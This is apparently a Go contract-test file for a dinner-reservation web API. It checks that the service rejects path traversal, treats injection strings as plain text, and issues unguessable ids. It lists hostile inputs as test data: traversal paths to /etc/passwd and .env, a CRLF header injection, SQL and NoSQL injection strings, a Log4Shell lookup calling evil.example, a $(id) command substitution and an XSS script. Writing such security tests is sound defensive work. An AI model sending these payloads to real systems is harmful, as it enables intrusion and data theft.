package contract

import (
	"net/http"
	"strings"
)

// paths are ways out of the routes: none leads anywhere.
func paths(s *session) {
	for _, path := range []string{
		"/dinners/../health", "/dinners/%2e%2e/health", "/dinners/..%2fhealth", "/dinners/%2e%2e%2fhealth", "/dinners/....//health",
		"/dinners/..%5chealth", "/dinners/%c0%ae%c0%ae/health", "/dinners/%252e%252e%252fhealth", "/./health", "/health/.", "/health//",
		"//health", "/health%00", "/health%0d%0aX-Injected:%201", "/HEALTH", "/health;a=1", "/%68ealth/x",
		"/etc/passwd", "/.git/config", "/.env", "/debug/pprof/", "/metrics", "/dinners/%2Fetc%2Fpasswd", "/" + strings.Repeat("a/", 1000),
	} {
		a := s.wants(s.send("GET "+path, "", s.as("wanderer")...), http.StatusNotFound, "not-found")
		if a.Header.Get("X-Injected") != "" {
			s.t.Errorf("%s set a header", path)
		}
	}
}

// injection are texts that mean something to a database, a template, a log or a
// page: here they are texts.
func injection(s *session) {
	for _, text := range []string{
		`x" OR attribute_exists(pk) OR "a" = "a`, `:pk = :after`, `#a <> #b`, `'; DROP TABLE dinners; --`, `{"$ne":""}`, `{"S":"x"}`,
		`<aws.events.event.json>`, `<$.dynamodb.NewImage.data.S>`, `${jndi:ldap://evil.example/a}`, `{{7*7}}`, `%s%n`, `$(id)`,
		`</script><script>alert(1)</script>`, `"}],"_aws":{"x":1}`, `\u0000`, "e\u0301 \u202e abc", "DINNER#01J99999999999999999999999",
	} {
		body := strings.Replace(plan("TITLE", 2, 0), `"TITLE"`, quoted(text), 1)
		path := "/dinners/" + s.wants(s.send("POST /dinners", body, s.as("host")...), http.StatusCreated, "").json["dinnerId"].(string)
		if a := s.wants(s.send("GET "+path, ""), http.StatusOK, ""); a.json["title"] != text {
			s.t.Errorf("%q was kept as %q", text, a.json["title"])
		}
		for _, query := range []string{"limit=" + escaped(text), "cursor=" + escaped(text)} {
			if s.Procedures && strings.HasPrefix(query, "limit=") {
				continue // a number, in every message
			}
			s.wants(s.send("GET /dinners?"+query, ""), http.StatusBadRequest, "invalid")
		}
		s.wants(s.send("GET /dinners/"+escaped(text), ""), http.StatusNotFound, "not-found")
	}
	// A person whose name is made to look like another's key has nothing of it.
	name := "anna#PLACE#RESERVATION#"
	s.reserved(s.created(1, 0), name)
	for who, want := range map[string]int{name: 1, "anna": 0, name + "2030": 0} {
		if n := len(s.list(s.send("GET /me/reservations", "", s.as(who)...), "reservations")); n != want {
			s.t.Errorf("%s holds %d reservations, want %d", who, n, want)
		}
	}
}

// guessing wants ids of which one does not tell the next, and the same answer for
// a reservation of somebody else's as for none.
func guessing(s *session) {
	const n = 6
	last := s.created(1, 0)
	steps := map[string]bool{}
	for range n {
		next := s.created(1, 0)
		// After the time, 48 bits, an id has 80 bits; the first half of them differs
		// between any two if they are drawn anew each time.
		steps[next[len(next)-16:len(next)-8]] = true
		if next == last {
			s.t.Errorf("%s twice", next)
		}
		last = next
	}
	if len(steps) != n {
		s.t.Errorf("%d dinners have ids with %d beginnings: %v", n, len(steps), steps)
	}
	mine := s.reserved(last, "owner")
	others := s.wants(s.send("DELETE "+mine, "", s.as("thief")...), http.StatusNotFound, "not-found")
	none := s.wants(s.send("DELETE "+last+"/reservations/01J99999999999999999999999", "", s.as("thief")...), http.StatusNotFound, "not-found")
	known := strings.NewReplacer(mine[strings.LastIndex(mine, "/")+1:], "ID", "01J99999999999999999999999", "ID")
	if a, b := known.Replace(others.json["detail"].(string)), known.Replace(none.json["detail"].(string)); a != b {
		s.t.Errorf("another's reservation is told from none: %q and %q", a, b)
	}
	if held := s.list(s.send("GET /me/reservations", "", s.as("owner")...), "reservations"); len(held) != 1 {
		s.t.Errorf("the owner holds %v", held)
	}
}
